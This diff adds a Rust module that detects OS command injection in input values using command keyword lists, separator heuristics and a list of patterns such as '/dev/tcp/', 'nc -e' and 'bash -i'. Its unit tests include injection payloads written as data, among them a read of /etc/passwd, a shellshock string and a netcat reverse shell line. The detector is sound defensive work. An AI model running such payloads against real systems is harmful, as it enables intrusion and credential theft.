@@ -1,0 +1,396 @@
+//! OS command injection: a shell metacharacter (`;`, `|`, `&&`, a newline, `` ` ``, `$(`) followed
+//! by a command, shellshock's `() {`, server-side includes, `${IFS}` tricks, and well-known
+//! commands with absolute paths.
+
+/// Commands that, first in a value and followed by an option or a path, are a command line.
+const STARTERS: &[&str] = &[
+    "ping",
+    "ping.exe",
+    "nslookup",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "powershell",
+    "cmd",
+    "cmd.exe",
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "id",
+    "cat",
+    "ls",
+    "dir",
+    "type",
+    "sleep",
+    "python",
+    "perl",
+    "php",
+    "ruby",
+    "chmod",
+    "rm",
+    "telnet",
+    "certutil",
+    "net",
+    "systeminfo",
+    "getent",
+    "dig",
+    "timeout",
+];
+
+const COMMANDS: &[&str] = &[
+    "id",
+    "whoami",
+    "uname",
+    "cat",
+    "ls",
+    "dir",
+    "pwd",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "dash",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "node",
+    "ping",
+    "nslookup",
+    "dig",
+    "host",
+    "sleep",
+    "echo",
+    "rm",
+    "chmod",
+    "chown",
+    "touch",
+    "telnet",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "cmd.exe",
+    "net",
+    "ipconfig",
+    "ifconfig",
+    "systeminfo",
+    "certutil",
+    "bitsadmin",
+    "xterm",
+    "nohup",
+    "base64",
+    "busybox",
+    "awk",
+    "find",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "type",
+    "eval",
+    "exec",
+    "env",
+    "printenv",
+    "set",
+    "ps",
+    "kill",
+    "mkfifo",
+    "socat",
+    "tftp",
+    "ftp",
+    "scp",
+    "ssh",
+    "crontab",
+    "useradd",
+    "passwd",
+    "sudo",
+    "su",
+    "reboot",
+    "shutdown",
+    "netstat",
+    "hostname",
+    "ver",
+    "tasklist",
+    "taskkill",
+    "wmic",
+    "reg",
+    "sc",
+    "timeout",
+    "start",
+    "call",
+    "expr",
+    "xxd",
+    "od",
+    "strings",
+    "tac",
+    "nl",
+    "sort",
+    "uniq",
+    "grep",
+    "sed",
+    "cut",
+    "tr",
+    "wc",
+    "who",
+    "w",
+    "last",
+    "getent",
+    "lsb_release",
+    "cp",
+    "mv",
+    "mkdir",
+    "tee",
+    "gzip",
+    "tar",
+    "unzip",
+    "java",
+    "lua",
+    "openssl",
+    "rev",
+    "nmap",
+    "ncat.exe",
+    "nc.exe",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "cscript",
+    "wscript",
+    "invoke-webrequest",
+    "iex",
+    "start-process",
+    "sysinfo",
+];
+
+fn is_command(word: &str) -> bool {
+    let w = word.rsplit('/').next().unwrap_or(word);
+    let w = w.rsplit('\\').next().unwrap_or(w);
+    COMMANDS.contains(&w) || (word.starts_with("/bin/") || word.starts_with("/usr/bin/") || word.starts_with("/sbin/"))
+}
+
+/// The first word after position `i`, skipping blanks, quotes and `${IFS}`-style padding.
+fn word_at(s: &str, mut i: usize) -> &str {
+    let b = s.as_bytes();
+    loop {
+        while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b'(' | b'{' | b'<' | b'!') {
+            i += 1;
+        }
+        if s[i..].starts_with("${ifs}") || s[i..].starts_with("$ifs") {
+            i += if s[i..].starts_with("${ifs}") { 6 } else { 4 };
+            continue;
+        }
+        break;
+    }
+    let end = s[i..]
+        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-' | '\\' | ':')) || c == '+')
+        .map_or(s.len(), |e| i + e);
+    &s[i..end]
+}
+
+pub fn check(value: &str) -> Option<(&'static str, u32)> {
+    let b = value.as_bytes();
+    if !b.iter().any(|c| matches!(c, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'(' | b'<' | b'/' | b'\r')) {
+        return None;
+    }
+    // Payload lists write line breaks as `\n`; a command after one is as good as after a real one.
+    let lower = value.to_ascii_lowercase().replace("\\n", "\n").replace('+', " ");
+    if let Some(first) = lower.split_whitespace().next() {
+        let tail = lower[lower.find(first).unwrap_or(0) + first.len()..].trim_start();
+        let head_cmd = STARTERS.contains(&first.trim_end_matches([';', '|', '&']));
+        let sep_after = first.ends_with([';', '|', '&']) && first.len() > 1;
+        let arg_like = tail.starts_with('-')
+            || tail.starts_with('/')
+            || tail.starts_with('$')
+            || tail.get(1..3) == Some(":/")
+            || tail.get(1..2) == Some(":") && tail.len() <= 3;
+        if head_cmd && (sep_after || (arg_like && !tail.is_empty())) {
+            return Some(("command_line", 8));
+        }
+    }
+    if lower.contains('`') {
+        let mut it = lower.split('`');
+        it.next();
+        for inner in it.step_by(2) {
+            let w = inner.split_whitespace().next().unwrap_or("");
+            if is_command(w) || matches!(w, "true" | "false") {
+                return Some(("backtick_command", 8));
+            }
+        }
+    }
+    if lower.contains("<?php")
+        || lower.contains("<?=")
+        || lower.contains("!!python/object")
+        || lower.contains("!!javax.script")
+    {
+        return Some(("code_injection", 8));
+    }
+    if lower.contains("() {") || lower.contains("(){") {
+        return Some(("shellshock", 9));
+    }
+    if lower.contains("<!--#exec") || lower.contains("<!--#include") {
+        return Some(("server_side_include", 9));
+    }
+    if lower.contains("${ifs}") || lower.contains("$ifs$") {
+        return Some(("ifs_padding", 8));
+    }
+    let lb = lower.as_bytes();
+    for (i, c) in lb.iter().enumerate() {
+        let start = match c {
+            b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' => i + 1,
+            b'$' if lb.get(i + 1) == Some(&b'(') => i + 2,
+            _ => continue,
+        };
+        let w = word_at(&lower, start);
+        if !w.is_empty() && is_command(w) {
+            // `; cat`, `| id`, `$(whoami)`, `` `uname -a` ``: a command word right after a separator.
+            let next = lower[start..].trim_start_matches([' ', '\t', '\n', '\r', '"', '\'', '(', '{', '<', '!']);
+            let after = &next[w.len().min(next.len())..];
+            let ends = after.is_empty()
+                || after.starts_with([
+                    ' ', '\t', ';', '|', '&', '`', ')', '\n', '$', '<', '>', '#', '\'', '"', '}', '+', '\\',
+                ]);
+            if ends {
+                // Prose has `;`/`&` followed by words like `set`, `type`, `call`: ask for more
+                // than a bare common word there.
+                let weak = matches!(
+                    w,
+                    "set"
+                        | "type"
+                        | "call"
+                        | "start"
+                        | "find"
+                        | "sort"
+                        | "more"
+                        | "less"
+                        | "last"
+                        | "host"
+                        | "w"
+                        | "who"
+                        | "net"
+                        | "head"
+                        | "tail"
+                        | "echo"
+                        | "sleep"
+                        | "exec"
+                        | "eval"
+                        | "ver"
+                        | "dir"
+                        | "env"
+                        | "sc"
+                        | "reg"
+                        | "su"
+                        | "cut"
+                        | "tr"
+                        | "nl"
+                        | "od"
+                        | "ps"
+                        | "kill"
+                        | "expr"
+                        | "timeout"
+                        | "print"
+                        | "tee"
+                        | "rev"
+                        | "node"
+                        | "java"
+                        | "lua"
+                );
+                let strong_sep = matches!(c, b'`' | b'|' | b'\n' | b'\r' | b'$') || lower[..i].trim().is_empty();
+                let arg = after.trim_start();
+                let drive = arg.len() >= 2 && arg.as_bytes()[1] == b':' && arg.as_bytes()[0].is_ascii_alphabetic();
+                if !weak
+                    || strong_sep
+                    || drive
+                    || arg.starts_with(['-', '/', '$', '`'])
+                    || after.trim().is_empty() && i > 0
+                {
+                    return Some(("separator_command", 8));
+                }
+            }
+        }
+    }
+    if [
+        "/bin/sh",
+        "/bin/bash",
+        "/bin/cat",
+        "/usr/bin/id",
+        "/bin/ls",
+        "/usr/bin/whoami",
+        "cmd.exe",
+        "cmd /c",
+        "powershell -",
+        "/dev/tcp/",
+        "nc -e",
+        "bash -i",
+        "bash -c",
+        "sh -c",
+        "wget http",
+        "curl http",
+        "system(",
+        "passthru(",
+        "shell_exec(",
+        "popen(",
+        "proc_open(",
+        "child_process",
+        "execsync(",
+        "runtime.getruntime",
+        "exec('",
+        "exec(\"",
+        "os.system(",
+        "subprocess.",
+        "os.popen(",
+        "pcntl_exec(",
+    ]
+    .iter()
+    .any(|k| lower.contains(k))
+    {
+        return Some(("command_string", 8));
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::check;
+
+    #[test]
+    fn commands() {
+        for s in [
+            "; cat /etc/passwd",
+            "| id",
+            "$(whoami)",
+            "`uname -a`",
+            "127.0.0.1 && ls -la",
+            "() { :;}; /bin/bash -c id",
+            "a\nid",
+            ";${IFS}cat${IFS}/etc/passwd",
+            "x|nc -e /bin/sh 10.0.0.1 4444",
+        ] {
+            assert!(check(s).is_some(), "missed: {s}");
+        }
+        for s in [
+            "echo in the mirror",
+            "bash away in the gym",
+            "ls 300 lexus",
+            "nc 8000 controller",
+            "zsh is the best!",
+            "exec noun",
+            "Tom & Jerry",
+            "rock & roll; set list",
+            "a|b",
+            "salt & pepper; type A",
+        ] {
+            assert!(check(s).is_none(), "false positive: {s} ({:?})", check(s));
+        }
+    }
+}
